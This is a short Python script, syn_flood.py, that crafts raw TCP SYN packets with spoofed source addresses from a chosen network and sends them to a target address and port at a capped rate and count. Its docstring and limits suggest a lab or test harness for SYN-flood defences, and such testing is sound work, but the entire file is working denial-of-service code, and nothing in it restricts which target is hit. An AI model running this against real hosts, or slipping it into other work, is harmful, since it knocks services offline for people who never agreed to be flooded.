#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Sends SYNs that nobody means, at a bounded rate and for a bounded time.

usage: syn_flood.py ADDRESS PORT NETWORK RATE COUNT

Each comes from another address and port of NETWORK (10.66.0.0/16) and goes to ADDRESS. RATE is SYNs a second, at most
50000; COUNT how many, at most 200000. Says "flooding" when it begins and how many went out when it ends.
"""
import ipaddress
import random
import socket
import struct
import sys
import time

STEP_S = 0.005


def checksum(data: bytes) -> int:
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(source: bytes, destination: bytes, port: int) -> bytes:
    def tcp(check: int) -> bytes:
        return struct.pack("!HHIIBBHHH", source_port, port, sequence, 0, 5 << 4, 0x02, 64240, check, 0)

    source_port, sequence = random.randrange(1024, 65536), random.randrange(1 << 32)
    segment = tcp(checksum(source + destination + struct.pack("!HH", 6, 20) + tcp(0)))
    # The kernel fills in the header's checksum and identification.
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(segment), 0, 0x4000, 64, 6, 0, source, destination)
    return header + segment


def flood(address: str, port: int, network: ipaddress.IPv4Network, rate: int, count: int) -> int:
    destination = socket.inet_aton(address)
    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    print("flooding", flush=True)
    sent, began = 0, time.monotonic()
    while sent < count:
        due = min(count, int((time.monotonic() - began) * rate))
        while sent < due:
            source = network[random.randrange(1, network.num_addresses - 1)].packed
            sender.sendto(syn(source, destination, port), (address, 0))
            sent += 1
        time.sleep(STEP_S)
    return sent


given_rate, given_count = int(sys.argv[4]), int(sys.argv[5])
if not (0 < given_rate <= 50000 and 0 < given_count <= 200000):
    sys.exit(__doc__)
print(flood(sys.argv[1], int(sys.argv[2]), ipaddress.ip_network(sys.argv[3]), given_rate, given_count), "sent", flush=True)
